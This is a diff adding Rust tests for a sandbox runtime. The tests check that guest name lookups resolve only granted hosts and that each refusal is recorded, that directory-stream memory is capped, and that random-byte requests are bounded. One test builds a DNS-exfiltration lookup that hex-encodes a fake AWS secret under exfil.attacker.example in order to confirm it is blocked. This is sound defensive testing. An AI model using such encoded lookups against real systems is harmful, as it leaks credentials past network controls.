@@ -1615,3 +1615,86 @@ fn outside_10_a_directory_swapped_after_the_proposal_cannot_redirect_the_approva
     );
     assert!(!w.root.join("docs/new.job.yaml").exists());
 }
+
+#[test]
+fn outside_6_name_lookups_resolve_granted_hosts_only_and_every_refusal_is_recorded() {
+    let w = World::new();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
+    let port = listener.local_addr().expect("addr").port();
+    let policy = POLICY.replace(
+        "      - { path: state, mode: rw }\n  \"table-grow.v1\"",
+        &format!("      - {{ path: state, mode: rw }}\n    network: [\"localhost:{port}\"]\n  \"table-grow.v1\""),
+    );
+    std::fs::write(w.root.join(".lily/policy.yaml"), policy).expect("policy");
+    let exfil = format!("{}.exfil.attacker.example", hex::encode("AWS_SECRET=hunter2"));
+    let r = w.step(
+        "dns",
+        "net",
+        json!({"resolve": [exfil.clone(), "localhost", "LOCALHOST.", "127.0.0.1", "example.com"], "connect": [format!("localhost:{port}")]}),
+        "{}",
+    );
+    let obs = observed_step(&r);
+    let resolved: BTreeMap<String, bool> = obs["resolve"]
+        .as_array()
+        .expect("resolve")
+        .iter()
+        .map(|i| (i["host"].as_str().expect("host").to_string(), i["result"]["ok"] == true))
+        .collect();
+    assert_eq!(resolved[&exfil], false, "{obs}");
+    assert_eq!(resolved["example.com"], false, "{obs}");
+    assert!(
+        resolved["localhost"] && resolved["LOCALHOST."] && resolved["127.0.0.1"],
+        "granted names and literals resolve: {obs}"
+    );
+    assert_eq!(obs["connect"][0]["result"]["ok"], true, "the granted host is reachable by name: {obs}");
+    let denied: Vec<String> = store::read_events(&r.run_dir)
+        .into_iter()
+        .filter(|e| e["type"] == "capability_denied")
+        .filter_map(|e| e["target"].as_str().map(str::to_string))
+        .collect();
+    for name in [&exfil, "example.com"] {
+        assert!(denied.iter().any(|t| t.contains(name) && t.starts_with("name lookup")), "{name}: {denied:?}");
+    }
+    w.assert_echo_still_works();
+}
+
+#[test]
+fn outside_7_directory_streams_are_capped_and_charged_to_the_step() {
+    let _g = guard("directory streams", 6 * GIB, Duration::from_secs(300));
+    let w = World::new();
+    let big = w.root.join("ws/big");
+    std::fs::create_dir_all(&big).expect("mkdir");
+    for i in 0..5000 {
+        std::fs::write(big.join(format!("{i:05}-{}", "n".repeat(194))), "").expect("file");
+    }
+    // 200 streams of a 5,000-entry directory with 200-byte names: ~1.2 MB
+    // of host memory each, ~240 MB in all, under a 16 MiB guest limit.
+    let r = w.step("dirs", "dir_streams", json!({"dir": "/workspace/big", "count": 200}), "{ memory_mb: 16 }");
+    let obs = observed_step(&r);
+    let opened = obs["opened"].as_u64().expect("opened");
+    assert!(opened >= 1, "one listing fits: {obs}");
+    assert!(opened < 20, "the host buffers are charged to the 16 MiB limit: {obs}");
+    assert!(obs["error"].as_str().is_some_and(|e| !e.is_empty()), "the guest sees an I/O error: {obs}");
+    // Streams given back are charged no more: a second run gets as many.
+    let again = observed_step(&w.step("dirs2", "dir_streams", json!({"dir": "/workspace/big", "count": 200}), "{ memory_mb: 16 }"));
+    assert_eq!(again["opened"], obs["opened"]);
+    // Without a memory pressure the count cap (64 streams) holds.
+    let small = observed_step(&w.step("dirs3", "dir_streams", json!({"dir": "/workspace/sub", "count": 200}), "{}"));
+    assert_eq!(small["opened"], 64, "{small}");
+    w.assert_echo_still_works();
+}
+
+#[test]
+fn outside_8_random_bytes_are_bounded_per_call() {
+    let _g = guard("random bytes", 6 * GIB, Duration::from_secs(300));
+    let w = World::new();
+    let ok = observed_step(&w.step("rand-ok", "random", json!({"bytes": 4096}), "{}"));
+    assert_eq!(ok["got"], 4096);
+    let started = Instant::now();
+    let r = w.step("rand-big", "random", json!({"bytes": 64u64 << 20}), "{ timeout_seconds: 2 }");
+    assert_eq!(r.receipt.status, RunStatus::Failed);
+    let step = step_record(&r, "step:hostile.v1");
+    assert_eq!(step["cause"]["kind"], "trap", "{step}");
+    assert!(started.elapsed() < Duration::from_secs(10), "{:?}", started.elapsed());
+    w.assert_echo_still_works();
+}
